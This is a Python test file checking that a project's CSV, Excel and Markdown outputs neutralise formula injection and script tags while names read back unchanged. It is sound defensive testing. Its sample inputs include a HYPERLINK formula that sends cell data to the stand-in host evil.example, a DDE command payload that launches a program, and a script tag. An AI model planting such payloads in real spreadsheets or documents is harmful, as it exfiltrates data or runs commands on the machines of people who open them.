"""Outputs safe from formula injection (issue 15): no CSV cell a spreadsheet would run, workbook
text stored as text, Markdown shown literally; names read back exactly as written."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from allocator.outputs.escaping import (
    FORMULA_STARTS,
    NUMBER,
    csv_cell,
    markdown_text,
    restore_cell,
)
from allocator.outputs.table_io import read_table, write_table, write_workbook
from allocator.outputs.workbook import write_results_workbook

pytestmark = pytest.mark.property

INJECTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "'=già protetto",
]


def formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and NUMBER.fullmatch(cell) is None


def csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("text", INJECTED)
def test_a_formula_is_neutralised_and_restored(text: str) -> None:
    assert csv_cell(text).startswith("'")
    assert restore_cell(csv_cell(text)) == text


def test_a_carriage_return_cannot_start_a_new_unescaped_row(tmp_path: Path) -> None:
    write_table(pd.DataFrame({"name": ["\r=1+1", "x\r@SUM(1)"]}), tmp_path / "t.csv")
    assert csv_cells(tmp_path / "t.csv") == ["name", "\n=1+1", "x\n@SUM(1)"]


@pytest.mark.parametrize("text", ["-5", "+1.5", "-0.25e3", "Quartiere Adriano", "", "Costo 5$"])
def test_numbers_and_plain_text_stay_as_they_are(text: str) -> None:
    assert csv_cell(text) == text


text_cells = st.one_of(
    st.sampled_from(INJECTED),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=20),
    st.builds(lambda c, t: c + t, st.sampled_from((*FORMULA_STARTS, "'")), st.text(max_size=8)),
)


@settings(max_examples=60, deadline=None)
@given(
    names=st.lists(text_cells, min_size=1, max_size=6),
    amounts=st.lists(st.floats(-1e6, 1e6, allow_nan=False), min_size=6, max_size=6),
)
def test_no_csv_cell_starts_with_a_formula_and_names_round_trip(
    tmp_path_factory: pytest.TempPathFactory, names: list[str], amounts: list[float]
) -> None:
    rows = len(names)
    header = names[0] if names[0] not in ("", "area_id", "name", "amount") else "=header"
    frame = pd.DataFrame(
        {
            "area_id": [f"a{i}" for i in range(rows)],
            "name": names,
            "amount": amounts[:rows],
            header: amounts[:rows],  # a header from a name (pivoted tables have them)
        }
    )
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    write_table(frame, path)
    assert not [cell for cell in csv_cells(path) if formula_like(cell)]
    back = read_table(path)
    written = [n.replace("\r\n", "\n").replace("\r", "\n") for n in names]
    assert list(back["name"].fillna("")) == written
    assert list(back.columns) == [c.replace("\r\n", "\n").replace("\r", "\n") for c in frame]
    assert back["amount"].tolist() == pytest.approx(amounts[:rows])


@pytest.mark.parametrize("name", ["NA", "null", "None", "NaN", "n/a", "001"])
def test_names_that_look_missing_are_read_back_as_text(tmp_path: Path, name: str) -> None:
    frame = pd.DataFrame({"funder_id": [name], "name": [name], "amount": [1.5]})
    write_table(frame, tmp_path / "f")
    back = read_table(tmp_path / "f")
    assert back.loc[0, "funder_id"] == name and back.loc[0, "name"] == name
    assert back.loc[0, "amount"] == 1.5


def test_workbook_text_is_stored_as_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": [*INJECTED, "bell\x07here"], "value": range(len(INJECTED) + 1)})
    write_workbook(tmp_path / "r.xlsx", {"areas": frame})
    sheet = load_workbook(tmp_path / "r.xlsx")["areas"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in cells if c.column == 1]
    assert names[: len(INJECTED)] == INJECTED and names[-1] == "bell\ufffdhere"


def test_markdown_shows_names_literally() -> None:
    shown = markdown_text("<script>alert(1)</script> *Area* [x](http://e)\n# titolo")
    assert "<script>" not in shown and "\n" not in shown
    assert shown == (r"\<script\>alert(1)\</script\> \*Area\* \[x\](http://e) \# titolo")


def test_results_workbook_holds_hostile_names_as_text(tmp_path: Path) -> None:
    names = [INJECTED[0], "bell\x07here", "-5"]
    frame = pd.DataFrame({"area_id": ["a1", "a2", "a3"], "name": names, "need": [1, 2, 3]})
    write_results_workbook(tmp_path / "r.xlsx", {"status": "optimal"}, {"areas": frame})
    sheet = load_workbook(tmp_path / "r.xlsx")["Quartieri"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert {INJECTED[0], "bell\ufffdhere", "-5"} <= texts
